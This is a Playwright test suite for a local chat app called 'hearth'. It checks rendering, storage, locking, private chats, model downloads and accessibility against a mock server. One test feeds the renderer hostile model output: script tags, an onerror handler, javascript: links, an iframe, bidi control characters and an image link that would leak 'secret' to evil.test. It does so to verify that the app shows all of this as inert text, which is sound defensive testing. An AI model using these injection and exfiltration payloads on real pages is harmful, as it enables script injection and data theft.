/*
 * page: the page in headless Chromium, over the mock (mock.mjs); served.mjs has the page over hearth itself.
 *
 *     node page.mjs WEB_FOLDER CHROMIUM [SHOTS_FOLDER]
 *
 * Prints TAP. Nothing depends on how fast the machine is: waits end when what they wait for is true.
 */
import { chromium } from "playwright-core";
import { readFileSync } from "node:fs";
import { createRequire } from "node:module";
import { Mock } from "./mock.mjs";

const [folder, program, shots] = process.argv.slice(2);
const axe = readFileSync(createRequire(import.meta.url).resolve("axe-core/axe.min.js"), "utf8");
const PATIENCE = 180000;
let cases = 0, failures = 0;

const browser = await chromium.launch({ executablePath: program, args: ["--no-sandbox", "--disable-background-networking"] });
const desktop = { viewport: { width: 1280, height: 820 } }, phone = { viewport: { width: 390, height: 780 }, hasTouch: true, isMobile: true };

function is(value, wanted, what) {
	if (JSON.stringify(value) !== JSON.stringify(wanted)) throw new Error(what + ": " + JSON.stringify(value) + " in place of " + JSON.stringify(wanted));
}

/* What is written comes to be so a moment after it is seen. */
async function becomes(read, wanted, what) {
	const until = Date.now() + PATIENCE;
	let value = await read();
	while (JSON.stringify(value) !== JSON.stringify(wanted) && Date.now() < until) {
		await new Promise((resolve) => setTimeout(resolve, 100));
		value = await read();
	}
	is(value, wanted, what);
}

/* One case: a page of its own over a mock of its own; afterwards it has asked nobody else and broken no rule of its policy. */
async function test(name, options, prepare, body) {
	cases++;
	const mock = new Mock(folder);
	await prepare?.(mock);
	const url = await mock.listen();
	const context = await browser.newContext({ reducedMotion: "reduce", ...options });
	const foreign = [], errors = [];
	try {
		const page = await context.newPage();
		page.setDefaultTimeout(PATIENCE);
		page.on("request", (r) => { if (!r.url().startsWith(url) && !r.url().startsWith("blob:")) foreign.push(r.url()); });
		page.on("pageerror", (e) => errors.push(String(e.stack)));
		page.on("console", (m) => { if (m.type() === "error" && !m.text().includes("Failed to load resource")) errors.push(m.text()); });
		await page.goto(url + "#token=0123456789abcdef");
		await body(page, mock, context);
		is(foreign, [], "requests to others");
		is(errors, [], "errors in the page");
		console.log("ok " + cases + " - page: " + name);
	} catch (error) {
		failures++;
		console.log("not ok " + cases + " - page: " + name);
		for (const line of [...String(error.stack).split("\n").slice(0, 12), ...errors, ...foreign]) console.log("# " + line);
		if (shots) await context.pages()[0]?.screenshot({ path: shots + "/failed-" + cases + ".png" }).catch(() => {});
	}
	await context.close();
	mock.close();
}

const open = (mock) => { mock.vault = { state: "open", passphrase: "correct horse", asked: true }; };
const send = async (page, text) => {
	await page.fill("#message", text);
	await page.click(".send");
};
const answered = (page, n = 1) => page.waitForFunction((k) => document.querySelectorAll(".message:not(.mine):not(.live) .tools button").length >= k * 3 && !document.querySelector(".send.busy"), n);
const text = (page, where) => page.textContent(where);

await test("the first visit leads to an answer with one field and one button", desktop, null, async (page, mock) => {
	await page.waitForSelector("#message");
	is(await page.evaluate(() => location.hash), "", "the token in the address");
	is(mock.requests.includes("POST /hearth/enter"), true, "entering");
	is((await text(page, ".promise")).includes("Nothing you write leaves this machine"), true, "the promise");
	await send(page, "Hello there");
	await answered(page);
	is(await text(page, ".message:not(.mine) .answer"), "You said: Hello there", "the answer");
	is(await page.title(), "hearth", "the title tells nothing");
	await page.waitForSelector(".ask-keep");
});

await test("keeping is one question, and what was said before is kept too", desktop, null, async (page, mock) => {
	await send(page, "Remember the lamp");
	await answered(page);
	await page.click(".ask-keep .main");
	await page.fill("dialog input >> nth=0", "correct horse");
	await page.fill("dialog input >> nth=1", "battery staple");
	await page.click("dialog form .main");
	await page.waitForFunction(() => document.querySelector("dialog .error").textContent !== "");
	await page.fill("dialog input >> nth=1", "correct horse");
	await page.click("dialog form .main");
	await page.waitForSelector(".recovery");
	await page.click("dialog footer .main");
	await page.waitForSelector(".entry");
	is(mock.chats[0].messages.map((m) => m.role), ["user", "assistant"], "kept");
	is(mock.chats[0].title, "Remember the lamp", "its title");
});

await test("Markdown, tables, code, formulas and thoughts are drawn", desktop, (mock) => {
	mock.reply = () => ({ thought: "First I think.", text: "# Head\n\nSome **bold** and *it* and `a<b`.\n\n1. one\n2. two\n   - inner\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n```c\nint main(void) { return 0; } // end\n```\n\nThen $x^2$ and\n\n$$\\frac{a}{b} = \\sqrt{c}$$\n\n> quoted\n\n- [x] done" });
}, async (page) => {
	await send(page, "Show it");
	await answered(page);
	const count = (where) => page.locator(".answer " + where).count();
	for (const [where, n] of Object.entries({ "h3": 1, "strong": 1, "em": 1, "ol > li": 2, "ol ul > li": 1, "td": 2, "figure.code": 1, ".hl-keyword": 3, ".hl-comment": 1, "math": 2, "mfrac": 1, "msqrt": 1, "blockquote": 1, "li.task input:checked": 1 })) is(await count(where), n, where);
	is(await page.locator("details.thought").evaluate((d) => d.open), false, "thoughts are folded");
	await page.click("details.thought summary");
	is(await text(page, ".thought-body"), "First I think.", "the thought");
});

await test("an answer can be stopped, and what came stays", desktop, (mock) => {
	open(mock);
	mock.delay = 40;
	mock.reply = () => "word ".repeat(4000);
}, async (page, mock) => {
	await send(page, "Go on for ever");
	await page.waitForSelector(".message.live .answer p");
	await page.keyboard.press("Escape");
	await answered(page);
	is((await text(page, ".message:not(.mine) .foot")).includes("You stopped"), true, "it says so");
	await page.waitForFunction(() => !document.querySelector(".tag.bad"));
	await becomes(() => mock.chats[0].messages.map((m) => m.unfinished), [false, false], "kept as it is");
});

await test("an edit makes a branch, and the conversation as it was stays", desktop, open, async (page, mock) => {
	await send(page, "First question");
	await answered(page, 1);
	await send(page, "Second question");
	await answered(page, 2);
	await page.locator(".message.mine").nth(1).hover();
	await page.locator(".message.mine").nth(1).getByRole("button", { name: "Edit" }).click();
	await page.fill(".editing textarea", "Another question");
	await page.click(".editing .main");
	await page.waitForFunction(() => [...document.querySelectorAll(".message.mine")].at(-1)?.textContent.includes("Another question"));
	await answered(page, 2);
	is(mock.chats.length, 2, "two conversations");
	is(mock.chats[0].messages.map((m) => m.text)[2], "Second question", "the old one");
	await becomes(() => mock.chats[1].messages.map((m) => m.text), ["First question", "You said: First question", "Another question", "You said: Another question"], "the new one");
	is(mock.prompts.at(-1).map((m) => m.content), ["First question", "You said: First question", "Another question"], "what the model saw");
	await page.waitForSelector(".marks .tag");
});

await test("trying again replaces the last answer when the new one is there; branching keeps both", desktop, (mock) => {
	open(mock);
	let n = 0;
	mock.reply = () => "Answer number " + ++n;
}, async (page, mock) => {
	await send(page, "A question");
	await answered(page);
	await page.getByRole("button", { name: "Try again" }).click();
	await page.waitForFunction(() => document.querySelector(".message:not(.mine) .answer")?.textContent === "Answer number 2");
	await answered(page);
	await becomes(() => mock.chats[0].messages.map((m) => m.text), ["A question", "Answer number 2"], "kept");
	await page.getByRole("button", { name: "Go on from here in a new conversation" }).click();
	await page.waitForFunction(() => document.querySelectorAll(".entry").length === 2);
	is(mock.chats[1].branch_of, 1, "a branch");
});

await test("conversations are searched, renamed, exported and deleted", desktop, (mock) => {
	open(mock);
	mock.add("Lamps", [["user", "Which lamp for the kitchen?"], ["assistant", "A bright one."]]);
	mock.add("Bread", [["user", "How long does bread rise?"], ["assistant", "Two hours in the kitchen."]]);
}, async (page, mock) => {
	await page.fill(".searching input", "kitchen bread");
	await page.waitForFunction(() => document.querySelector(".chat-list .none")?.textContent.startsWith("No message"));
	await page.fill(".searching input", "kitchen");
	await page.waitForFunction(() => document.querySelectorAll(".hit").length === 2);
	await page.locator(".hit", { hasText: "Bread" }).click();
	await page.waitForFunction(() => document.querySelector(".message.found")?.textContent.includes("Two hours"));
	await page.fill(".searching input", "");
	await page.waitForSelector(".entry");
	const menu = async (title, item) => {
		await page.locator(".entry", { hasText: title }).hover();
		await page.locator(".entry", { hasText: title }).getByRole("button").click();
		await page.getByRole("menuitem", { name: item }).click();
	};
	await menu("Lamps", "Rename");
	await page.fill("dialog input", "Light");
	await page.keyboard.press("Enter");
	await page.waitForFunction(() => [...document.querySelectorAll(".entry")].some((e) => e.textContent === "Light"));
	await menu("Light", "Export");
	const [file] = await Promise.all([page.waitForEvent("download"), page.click("dialog .main")]);
	is(readFileSync(await file.path(), "utf8").includes("Which lamp for the kitchen?"), true, "the export");
	await menu("Light", "Delete");
	await page.click("dialog .danger");
	await page.waitForFunction(() => document.querySelectorAll(".entry").length === 1);
	is(mock.chats.map((c) => c.title), ["Bread"], "what is left");
});

await test("locking leaves nothing in the page, and unlocking brings it back", desktop, (mock) => {
	open(mock);
	mock.add("Secret title", [["user", "canary-4711"], ["assistant", "canary-4712"]]);
}, async (page, mock) => {
	await page.click(".entry a");
	await page.waitForSelector(".message");
	await page.keyboard.press("Alt+l");
	await page.waitForSelector(".lock-card");
	is(await page.evaluate(() => /canary|Secret title/.test(document.documentElement.outerHTML + document.title + location.href)), false, "left in the page");
	is(await page.evaluate(() => JSON.stringify([Object.values(localStorage), Object.values(sessionStorage)]).includes("canary")), false, "left in the browser");
	await page.fill("#passphrase", "wrong");
	await page.keyboard.press("Enter");
	await page.waitForFunction(() => document.querySelector(".lock-card .error").textContent.includes("not the passphrase"));
	await page.fill("#passphrase", "correct horse");
	await page.keyboard.press("Enter");
	await page.waitForSelector(".entry");
	mock.vault.state = "locked"; /* another hearth locks it */
	await page.click(".entry a");
	await page.waitForSelector(".lock-card");
});

await test("a private conversation is never written", desktop, open, async (page, mock) => {
	await page.getByRole("button", { name: /private/ }).click();
	await page.waitForFunction(() => document.querySelector(".welcome h1")?.textContent === "A private conversation");
	await send(page, "canary-private");
	await answered(page);
	is([mock.chats.length, mock.requests.some((r) => r.includes("write"))], [0, false], "written");
	await page.getByRole("button", { name: "New conversation", exact: true }).click();
	await page.click("dialog .main");
	await page.waitForFunction(() => !document.body.textContent.includes("canary-private"));
});

await test("what a hostile model writes is shown as text", desktop, (mock) => {
	mock.reply = () => "<script>window.hit = 1</script><img src=x onerror='window.hit=2'>\n\n![look](http://evil.test/a.png?q=secret) and [bank](https://evil.test/x) and [js](javascript:window.hit=3) <a href='http://evil.test'>x</a>\n\n" +
		"safe\u202Efdp.exe\u202C \u001b[31mred\u0007 zero\u200bwidth \u{e0041} \ud800 \n\n```html\n<iframe src='http://evil.test'></iframe>\u202e\n```\n\n$\\text{<img src=x>}\\unknown{\u202e}$ &lt;b&gt; <https://evil.test/auto> http://evil.test/bare\n\n" +
		"> ".repeat(500) + "deep\n\n" + "*".repeat(3000) + "\n\n" + "[".repeat(3000) + "\n\n" + "$".repeat(3001) + " `" + "(".repeat(2000);
}, async (page, mock, context) => {
	await send(page, "Do your worst");
	await answered(page);
	is(await page.evaluate(() => [window.hit, document.querySelectorAll(".message img, .message script, .message iframe, .message a, .message [style], .message [onerror]").length]), [null, 0], "what became markup");
	const shown = await text(page, ".answer");
	for (const part of ["<script>window.hit = 1</script>", "onerror=", "RLO", "ESC", "BEL", "ZWSP", "U+E0041", "U+D800", "picture not fetched", "http://evil.test/a.png?q=secret", "(https://evil.test/x)", "(javascript:window.hit=3)", "<iframe"]) is(shown.includes(part), true, part);
	is(/[\u202e\u001b\u0007\u200b]/.test(shown), false, "characters that are obeyed");
	await page.locator(".link-button", { hasText: "bank" }).click();
	is(await text(page, "dialog .address"), "https://evil.test/x", "the address before it is opened");
	await page.keyboard.press("Escape");
	is(context.pages().length, 1, "nothing was opened");
});

await test("a full context is said before anything is left out", desktop, (mock) => {
	open(mock);
	mock.context = 600;
	mock.reply = () => "answer ".repeat(80);
}, async (page, mock) => {
	for (let i = 1; i <= 3; i++) {
		await send(page, "Question " + i + " " + "word ".repeat(40));
		await answered(page, i).catch(() => {});
		if (await page.locator(".full-card").count()) break;
	}
	await page.waitForSelector(".sight.full, .full-card");
	while (!(await page.getByRole("button", { name: "Leave them out and answer" }).count())) {
		await send(page, "More " + "word ".repeat(40));
		await page.waitForFunction(() => !document.querySelector(".send.busy"));
	}
	const before = mock.prompts.at(-1).length;
	await page.getByRole("button", { name: "Leave them out and answer" }).click();
	await page.waitForSelector(".divider");
	await page.waitForFunction(() => !document.querySelector(".send.busy"));
	is(mock.prompts.at(-1).length < before, true, "less was sent");
	is((await page.locator(".message").count()) > mock.prompts.at(-1).length, true, "all of it stays to be read");
});

await test("models: one is recommended with its arithmetic, fetched with progress and hash, and used", desktop, (mock) => {
	mock.models = [{ id: "small", title: "Small", kind: "here", current: true, builtin: true, bytes: 8e6, fits: "yes", why: "8 MB" }, { id: "", pull: "o/r:big", title: "Big", kind: "offer", recommended: true, bytes: 2e9, rate: 1e7, fits: "yes", speed: 9, licence: "free", good_at: "all", why: "2.0 GB + 0.5 GB = 2.5 GB" }, { id: "", pull: "o/r:huge", title: "Huge", kind: "offer", bytes: 9e10, fits: "no", why: "90 GB" }];
	mock.delay = 60;
	mock.pull = [...Array(12).keys()].map((i) => ({ state: "fetching", done: i * 1.7e8, total: 2e9, rate: 1.1e7, sha256: "", model: "" }));
	mock.pull.push({ state: "done", done: 2e9, total: 2e9, rate: 1e7, sha256: "ab".repeat(32), model: "small" });
}, async (page) => {
	await page.waitForSelector(".offer .model");
	await page.click(".way[href='#/models']");
	await page.click(".best summary");
	is((await text(page, ".best .arithmetic")).includes("2.5 GB"), true, "the arithmetic");
	await page.click(".best .main");
	await page.waitForFunction(() => /of 2\.0 GB, 11\.0 MB a second, .* left/.test(document.querySelector(".download")?.textContent));
	await page.waitForFunction(() => document.querySelector(".download .hash")?.textContent.includes("abab"));
	await page.click(".more-models > summary");
	is(await page.locator(".model", { hasText: "Huge" }).getByRole("button").count(), 0, "what does not fit is not fetched");
});

await test("the proof is a page with green and red lines, and so are the connections", desktop, (mock) => {
	mock.proof = ["answers", "storage", "imports", "rights"].map((name) => ({ kind: "part", name, verdict: name === "rights" ? "broken" : "holds", text: "tried " + name, expected: "" }));
	mock.proof.push({ kind: "probe", name: "hearth-engine", text: "fork", expected: "denied", verdict: "allowed" });
	mock.network = [{ kind: "begin", number: 1, time: 1.7e9, of: 0, host: "huggingface.co", up: 0, down: 0, result: "", sent: "", sha256: "" }, { kind: "end", number: 2, time: 1.7e9, of: 1, host: "", up: 300, down: 2e9, result: "HTTP 200", sent: "GET / HTTP/1.1", sha256: "cd".repeat(32) }];
}, async (page) => {
	await page.click(".promise a");
	await page.waitForSelector(".proof-result.bad");
	is([await page.locator(".proof-part.holds").count(), await page.locator(".proof-part.broken").count()], [3, 1], "lines");
	await page.click("a[href='#/network']");
	await page.waitForSelector(".ledger li");
	is((await text(page, ".ledger")).includes("300 bytes sent, 2.0 GB received"), true, "a connection");
});

await test("the keyboard alone is enough", desktop, open, async (page, mock) => {
	await page.waitForSelector("#message:focus");
	await page.keyboard.type("By keys\nalone");
	await page.keyboard.press("Backspace");
	await answered(page);
	await page.keyboard.press("Control+k");
	await page.waitForSelector("input[type=search]:focus");
	await page.keyboard.press("Escape");
	await page.keyboard.press("ArrowDown");
	await page.waitForSelector(".entry a:focus");
	await page.keyboard.press("Tab");
	await page.keyboard.press("Enter");
	await page.waitForSelector(".menu button:focus");
	await page.keyboard.press("Escape");
	await page.keyboard.press("Alt+n");
	await page.waitForSelector(".welcome");
	await page.keyboard.press("Alt+l");
	await page.waitForSelector("#passphrase:focus");
	await page.keyboard.type("correct horse");
	await page.keyboard.press("Enter");
	await page.waitForSelector(".entry");
	is(mock.chats[0].messages[0].text, "By keys", "Enter sends");
});

await test("5,000 messages: a stretch of them is there at a time, to both ends", desktop, (mock) => {
	open(mock);
	mock.context = 1e6;
	mock.add("Long", [...Array(5000).keys()].map((i) => [i % 2 ? "assistant" : "user", "Message " + i + " with **some** words\n\n- and\n- a list"]));
}, async (page) => {
	await page.click(".entry a");
	await page.waitForFunction(() => document.querySelector(".messages")?.textContent.includes("Message 4999"));
	const nodes = () => page.evaluate(() => document.querySelectorAll(".message").length);
	let most = await nodes();
	for (let i = 0; i < 12; i++) {
		const first = await page.evaluate(() => document.querySelector(".message .body").textContent);
		await page.evaluate(() => { document.querySelector(".scroll").scrollTop = 0; });
		await page.waitForFunction((was) => document.querySelector(".message .body").textContent !== was, first);
		most = Math.max(most, await nodes());
	}
	is(most <= 200, true, "messages that are elements at once: " + most);
	await page.click(".to-end");
	await page.waitForFunction(() => document.querySelector(".messages").textContent.includes("Message 4999"));
	await send(page, "One more");
	await page.waitForFunction(() => document.querySelector(".messages").textContent.includes("You said: One more"));
});

await test("on a phone nothing is wider than the screen, and the list slides in", phone, (mock) => {
	open(mock);
	mock.reply = () => "| a | b | c | d | e | f |\n|---|---|---|---|---|---|\n| " + "wide ".repeat(30) + "| 2 | 3 | 4 | 5 | 6 |\n\n```\n" + "x".repeat(400) + "\n```\n\n" + "long".repeat(100);
}, async (page) => {
	await send(page, "Wide things");
	await answered(page);
	is(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth && document.querySelector(".scroll").scrollWidth <= innerWidth), true, "no sideways");
	await page.getByRole("button", { name: "Conversations and pages" }).click();
	await page.waitForSelector(".side-open .entry");
	for (const way of ["#/models", "#/settings", "#/proof"]) {
		await page.evaluate((h) => { location.hash = h; }, way);
		await page.waitForSelector(".page h1");
		is(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth), true, way);
	}
});

for (const [look, options] of [["light", { ...desktop, colorScheme: "light" }], ["dark", { ...desktop, colorScheme: "dark" }], ["a phone", { ...phone, colorScheme: "light" }]]) {
	await test("axe-core finds nothing serious, " + look, { ...options, bypassCSP: true }, (mock) => {
		open(mock);
		mock.models = [{ id: "small", title: "Small", kind: "here", current: true, builtin: true, bytes: 8e6, fits: "yes", why: "8 MB" }, { id: "", pull: "o/r:big", title: "Big", kind: "offer", recommended: true, bytes: 2e9, fits: "slow", why: "2.0 GB" }];
		mock.reply = () => ({ thought: "Hm.", text: "# Head\n\nText with [a link](https://example.org/) and `code`.\n\n```js\nconst a = 1; // one\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n$$x^2$$\n\n\u202e" });
		mock.proof = ["answers", "storage", "imports", "rights"].map((name, i) => ({ kind: "part", name, verdict: ["holds", "broken", "untried", "holds"][i], text: "tried", expected: "" }));
	}, async (page) => {
		const found = [];
		const look = async (where) => {
			const result = await page.evaluate(async (source) => {
				if (!window.axe) window.eval(source);
				return (await window.axe.run(document, { resultTypes: ["violations"] })).violations.map((v) => [v.id, v.impact, v.nodes.map((n) => n.html.slice(0, 120)).slice(0, 3)]);
			}, axe);
			for (const violation of result) if (violation[1] === "serious" || violation[1] === "critical") found.push([where, ...violation]);
		};
		await page.waitForSelector("#message");
		await look("first");
		await send(page, "Show it");
		await answered(page);
		await look("answer");
		for (const way of ["models", "settings", "proof", "network"]) {
			await page.evaluate((h) => { location.hash = "#/" + h; }, way);
			await page.waitForSelector(".page h1");
			if (way === "proof") {
				await page.click(".big");
				await page.waitForSelector(".proof-result.bad");
			}
			await look(way);
		}
		await page.evaluate(() => { location.hash = "#/"; });
		await page.keyboard.press("Alt+l");
		await page.waitForSelector(".lock-card");
		await look("locked");
		is(found, [], "violations");
	});
}

await browser.close();
console.log("1.." + cases);
process.exit(failures ? 1 : 0);
